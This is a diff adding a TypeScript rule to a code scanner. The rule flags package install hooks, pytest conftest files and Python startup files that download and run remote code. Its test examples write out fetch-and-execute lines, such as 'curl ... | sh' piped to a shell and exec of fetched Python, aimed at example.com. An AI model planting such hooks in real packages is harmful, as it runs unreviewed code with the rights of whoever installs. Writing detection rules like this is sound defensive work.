@@ -1,0 +1,79 @@
+/** Code that runs unasked, when a package is installed or a tool starts, and brings in code. */
+
+import { foreignCode } from './foreign-code.ts';
+import { inFile, javascript, python, type Rule } from './rule.ts';
+import { MALICIOUS_CODE, NO_INTEGRITY_CHECK, UNAUTHORIZED_SOFTWARE, UNEXPECTED_EXECUTION } from './standards.ts';
+
+/** By the names of files that others run: when that happens. */
+const MOMENTS: readonly (readonly [RegExp, string])[] = [
+  [/^setup\.py$/, 'setup.py runs while the package is installed, with the rights of whoever installs it'],
+  [/^conftest\.py$/, 'conftest.py runs as soon as pytest looks for tests'],
+  [/^(?:site|user)customize\.py$/, 'A file of this name runs at the start of every Python program'],
+  [
+    /^(?:pre|post)install\.[cm]?[jt]s$/,
+    'A script of this name runs while the package is installed, with the rights of whoever installs it',
+  ],
+];
+
+export const installHook: Rule = {
+  id: 'install-hook',
+  title: 'A hook that runs unasked brings in code',
+  family: 'loader screening',
+  why: "Installing a package, collecting tests or starting Python runs this file before anybody has called anything, on developers' machines and build servers with their secrets. Whoever controls what it fetches has them all.",
+  advice:
+    'Ship what the hook needs with the package, or leave the download to a command that the user runs, which compares it with a known hash. Build steps belong into the build, where their result is reviewed.',
+  severity: 'error',
+  standards: [MALICIOUS_CODE, NO_INTEGRITY_CHECK, UNEXPECTED_EXECUTION, UNAUTHORIZED_SOFTWARE],
+
+  *check(flow) {
+    const moment = MOMENTS.find(([name]) => name.test(flow.fileName))?.[1];
+    if (!moment) return;
+    for (const it of foreignCode(flow)) yield { ...it, message: `${moment}. ${it.message}` };
+  },
+
+  examples: [
+    inFile(
+      'setup.py',
+      python`
+        import os
+        from setuptools import setup
+        os.system("curl -fsSL https://example.com/build.sh | sh")
+                   ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ install-hook
+        setup(name="tables")
+      `,
+    ),
+    inFile(
+      'conftest.py',
+      python`
+        import requests
+        exec(requests.get("https://example.com/fixtures.py").text)
+             ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ install-hook
+      `,
+    ),
+    inFile(
+      'postinstall.js',
+      javascript`
+        const { execSync } = require('node:child_process');
+        execSync('curl -fsSL https://example.com/setup.sh | sh');
+                  ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ install-hook
+      `,
+    ),
+    inFile(
+      'setup.py',
+      python`
+        import subprocess
+        from setuptools import setup
+        exec(open("tables/version.py").read())
+        subprocess.check_call(["cmake", "--build", "."])
+        setup(name="tables", version=__version__)
+      `,
+    ),
+    inFile(
+      'report.py',
+      python`
+        import requests
+        exec(requests.get("https://example.com/report.py").text)
+      `,
+    ),
+  ],
+};
